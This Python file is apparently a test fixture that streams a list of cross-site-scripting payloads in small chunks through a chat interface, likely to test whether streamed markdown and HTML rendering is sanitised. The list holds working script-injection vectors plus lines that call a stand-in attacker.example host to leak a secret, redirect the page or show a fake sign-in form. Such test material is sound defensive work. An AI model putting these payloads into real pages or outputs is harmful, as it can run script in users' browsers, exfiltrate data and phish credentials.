"""Streams XSS payloads (ATTACKS.md §7) cut into small chunks at shifting offsets."""

from __future__ import annotations

import time
from collections.abc import Iterator

import backend as gr

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
    '<video><source onerror="alert(1)"></video> <audio src=x onerror=alert(1)>',
    "<details open ontoggle=alert(1)>x</details> <input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)> <marquee onstart=alert(1)>m</marquee>",
    '<a href="javascript:alert(1)">a1</a> [a2](javascript:alert(1))',
    "[a3](JaVaScRiPt:alert(1)) [a4](java&#x09;script:alert(1)) [a5](&#106;avascript:alert(1))",
    "[a6]( javascript:alert(1)) [a7](javascript&colon;alert(1))",
    '<a href="java&#10;script:alert(1)">a8</a> [a9](java\u200bscript:alert(1))',
    "[d1](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [d2](vbscript:msgbox(1))",
    "[d3](file:///etc/passwd)",
    "[r1][bad]\n\n[bad]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '[t1](https://ok.example "a\\" onmouseover=\\"alert(1)")',
    '![x" onerror="alert(1)](https://ok.example/a.png)',
    "```\n</code></pre><img src=x onerror=alert(1)>\n```",
    "\\`<img src=x onerror=alert(1)>\\`",
    "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
    "# <svg onload=alert(1)>",
    "![s](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<object data="data:image/svg+xml,<svg onload=alert(1)>"></object> <embed src=x>',
    '<base href="https://attacker.example/">',
    '<meta http-equiv="refresh" content="0;url=https://attacker.example">',
    "<link rel=stylesheet href=https://attacker.example/x.css>",
    "![leak](https://attacker.example/p?d=SECRET)",
    '<div style="background:url(https://attacker.example/b)">styled</div>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a>"
    "</svg>",
    "<form id=ChatWidgetConfig><input name=apiBase value=https://attacker.example></form>",
    '<form action=https://attacker.example><input type=password placeholder="Session expired">'
    "<button>Sign in</button></form>",
    "<style>*{display:none}</style> <style>@import url(//attacker.example/x.css)</style>",
    "<scr\u200bipt>alert(1)</scr\u200bipt> {{constructor.constructor('alert(1)')()}}",
]

DOCUMENT = "\n\n".join(PAYLOADS)


def xss(message: str, history: list[dict[str, str]]) -> Iterator[str]:
    end = 0
    step = 1
    while end < len(DOCUMENT):
        end = min(len(DOCUMENT), end + step)
        step = step % 7 + 1
        time.sleep(0.002)  # plays a slow model: chunks go out one by one
        yield DOCUMENT[:end]


demo = gr.ChatInterface(fn=xss, type="messages")
